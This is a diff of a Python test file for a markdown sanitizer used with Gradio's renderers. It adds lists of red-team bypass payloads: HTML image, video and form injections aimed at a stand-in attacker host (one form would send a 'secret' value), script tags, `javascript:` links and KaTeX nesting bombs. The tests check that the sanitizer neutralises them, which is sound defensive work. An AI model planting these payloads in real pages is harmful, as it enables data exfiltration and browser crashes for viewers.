@@ -81,23 +81,62 @@ BYPASSES = [
 ]
 
 
+# The second red team (issue 16): where Gradio's renderer (marked, its mermaid extension, inspect.cleandoc, its
+# formula extraction) reads the text otherwise than CommonMark.
+RENDERER_BYPASSES = [
+    f"```mermaid\n<img src={EVIL}/m.png>\n```",  # mermaid fences become raw HTML
+    f"```\nx\n```~\n<img src={EVIL}/a.png>\n```",  # marked closes a fence at ```~
+    f"~~~\nx\n~~~`\n<video autoplay src={EVIL}/v.mp4></video>\n~~~",
+    f"a `b\n:-\nc <img src={EVIL}/t.png> `",  # a table without pipes splits the code span into cells
+    f"    <img src={EVIL}/x.png>\n\nHere is the answer.",  # dedented by cleandoc: an HTML block
+    f"Answer:\n\n    <form action={EVIL}/f><input name=q value=secret><button>send</button></form>",
+]
+
+
+@pytest.mark.parametrize("text", RENDERER_BYPASSES)
+def test_no_bypass_through_the_renderers_own_rules(text):
+    """Bug: each of these came out of safe_markdown unchanged, passed its CommonMark re-check, and was live in the
+    browser. Now no `<` in the result starts a tag, whatever decides what is code."""
+    import inspect
+
+    shown = safe_markdown(text)
+    assert live_parts(shown) == [] and live_parts(inspect.cleandoc(shown)) == []
+    assert re.search(r"<[A-Za-z/!?]", shown) is None and "mermaid" not in shown.split("\n")[0]
+
+
+def test_formulas_that_hide_depth_lose_their_delimiters():
+    """Bug: a formula straddling code was never depth-checked (the renderer extracts it anyway), and a \\def chain
+    expands as deep as the nesting it hides from the count."""
+    deep = "$" + "\\frac{1}{" * 200 + "x" + "}" * 200 + "\n\n    $"
+    assert "$" not in safe_markdown(deep)
+    from tests.test_browser_hostile import MACRO_CHAIN
+
+    macros = f"${MACRO_CHAIN}$"
+    assert "$" not in safe_markdown(macros) and safe_markdown("$\\frac{1}{2}$") == "$\\frac{1}{2}$"
+    assert "\\(" not in safe_markdown("\\(\\def\\x{y}\\x\\)")
+
+
 @pytest.mark.parametrize("text", BYPASSES)
 def test_no_bypass_of_the_code_decision(text):
     """Bug: safe_markdown decided what is code with its own regex; CommonMark disagreed and raw HTML was live."""
     assert live_parts(safe_markdown(text)) == []
 
 
+Z = "\u200b"  # after a `<` in code: invisible, and no renderer that disagrees about what is code sees a tag
 CODE_AS_WRITTEN = [
-    ("a `<b>` c and ``x ` <i>`` y", "a `<b>` c and ``x ` <i>`` y"),
-    ("> q `<c>` and <b>x</b>\n> - item `<x>`", "> q `<c>` and &lt;b>x&lt;/b>\n> - item `<x>`"),
-    ("| a | `<b>` |\n|---|---|\n| c | <e> |", "| a | `<b>` |\n|---|---|\n| c | &lt;e> |"),
-    ("# head `<h>` ##", "# head `<h>` ##"),
-    ("    <pre>indented code</pre>\n\ntext <u>", "    <pre>indented code</pre>\n\ntext &lt;u>"),
+    ("a `<b>` c and ``x ` <i>`` y", f"a `<{Z}b>` c and ``x ` <{Z}i>`` y"),
+    ("> q `<c>` and <b>x</b>\n> - item `<x>`", f"> q `<{Z}c>` and &lt;b>x&lt;/b>\n> - item `<{Z}x>`"),
+    ("| a | `<b>` |\n|---|---|\n| c | <e> |", f"| a | `<{Z}b>` |\n|---|---|\n| c | &lt;e> |"),
+    ("# head `<h>` ##", f"# head `<{Z}h>` ##"),
+    ("text\n\n    <pre>indented code</pre>\n\ntext <u>", f"text\n\n    <{Z}pre>indented code<{Z}/pre>\n\ntext &lt;u>"),
+    # The renderer dedents the answer first (inspect.cleandoc): an answer that opens indented is no code there.
+    ("    <pre>indented code</pre>\n\ntext <u>", "&lt;pre>indented code&lt;/pre>\n\ntext &lt;u>"),
 ]
 
 
-def test_code_stays_as_written():
-    """Bug: spans of unequal backtick runs and indented code were escaped (shown as `&lt;`) by the old regex."""
+def test_code_is_shown_as_written():
+    """Bug: spans of unequal backtick runs and indented code were escaped (shown as `&lt;`) by the old regex. Code
+    shows as written; its tag-like `<` carry an invisible zero-width space (the renderer may disagree)."""
     assert [safe_markdown(text) for text, _ in CODE_AS_WRITTEN] == [shown for _, shown in CODE_AS_WRITTEN]
 
 
@@ -110,7 +149,7 @@ def test_anything_left_live_falls_back_to_one_code_block(monkeypatch):
     text = f'a ```` run and <img src="{EVIL}/x.png">\n```'
     shown = module.safe_markdown(text)
     module.safe_markdown.cache_clear()
-    assert shown == f"`````text\n{text}\n`````" and live_parts(shown) == []
+    assert shown == f"`````text\n{text.replace('<', '<' + Z)}\n`````" and live_parts(shown) == []
 
 
 # ---- nesting bounded (issue 16, item 4: KaTeX crashed the tab, marked ran out of stack) -------------------
@@ -123,11 +162,12 @@ def _depth(html: str, tags: tuple[str, ...]) -> int:
     return deepest
 
 
-def test_deep_formula_is_shown_as_code():
+def test_deep_formula_loses_its_delimiters():
     """Bug: `$` + `\\frac{1}{`x200 + `x` + `}`x200 + `$` crashed Chromium's tab (KaTeX)."""
     deep = "$" + "\\frac{1}{" * 200 + "x" + "}" * 200 + "$"
     shown = safe_markdown(f"before {deep} after $\\frac{{1}}{{2}}$")
-    assert f"` {deep} `" in shown and shown.endswith("after $\\frac{1}{2}$")  # a shallow one still renders
+    # The deep one loses its delimiters (full-width dollars: no formula); a shallow one still renders.
+    assert f"\uff04{deep[1:-1]}\uff04" in shown and shown.endswith("after $\\frac{1}{2}$")
     limit = "$" + "{" * MAX_MATH_DEPTH + "}" * MAX_MATH_DEPTH + "$"
     assert safe_markdown(limit) == limit
 
@@ -165,6 +205,7 @@ HTML = [
     "</div>", "<script>x()</script>", f"<{EVIL}/auto>", "<javascript:alert(1)>",
 ]
 MARKUP = ["`", "``", "```", "````", "\\`", "\\\\", "~~~", "~~~\n~~~\n", "> ```\n", "- ```\n\n", "\\\\![p](",
+          "```mermaid\n", "```~\n", "~~~`\n", ":-\n", "\n:-:\n", "-|-\n", "\n    ", "$\\def\\a{x}\\a$",
           "\n", "\n\n", "    ", "  ", "> ", "- ", "1. ", "* ",
           "| a | b |\n|---|---|\n| ", " | ", "|", "![x](", f"![x]({EVIL}/m.png)", "[x](", ")", "](", "[r]: ",
           "javascript:x", "data:x", f"{EVIL}/l", "<", ">", "*", "_", "$", "x", " ", "\t", "#", "#x", "\\", "&lt;",
@@ -175,5 +216,12 @@ fragments = st.lists(st.one_of(st.sampled_from(HTML), st.sampled_from(MARKUP)), 
 @settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(fragments)
 def test_generated_markdown_never_yields_a_live_tag(text):
-    """Bug: HTML placed where the old regex and CommonMark disagreed about code reached the page live."""
-    assert live_parts(safe_markdown(text)) == []
+    """Bug: HTML placed where the old regex and CommonMark disagreed about code reached the page live. Beyond what
+    CommonMark renders, the result holds no `<` that starts a tag and no image marker at all, so no renderer that
+    disagrees about code (the browser's `marked`) can find one either; and it is stable under Gradio's dedent."""
+    import inspect
+
+    shown = safe_markdown(text)
+    assert live_parts(shown) == []
+    assert re.search(r"<[A-Za-z/!?]", shown) is None and "![" not in shown
+    assert inspect.cleandoc(shown) == shown
